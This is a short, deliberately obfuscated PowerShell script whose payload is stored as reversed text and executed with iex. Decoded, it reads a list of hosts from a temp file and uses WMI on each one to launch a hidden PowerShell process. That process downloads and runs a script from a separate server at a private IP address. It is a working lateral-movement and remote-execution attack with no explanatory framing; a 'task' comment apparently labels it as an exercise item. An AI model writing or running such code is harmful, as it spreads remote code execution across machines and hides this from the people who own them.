$lxzxh='
}
")1sp.a/051.2.0.291//:ptth rwi(xei c- neddih w- pon- llehsrewop" tsiLtnemugrA- etaerC emaN- ssecorP_23niW ssalC- t$ emaNretupmoC- dohteMimW-ekovnI  
{ )stegrat$ ni t$( hcaerof
txt.stsoh\pmeT\swodniW\:C tnetnoC-teG = stegrat$
1v 6276 ksat #'; iex (-join $lxzxh[-1..-($lxzxh.Length)])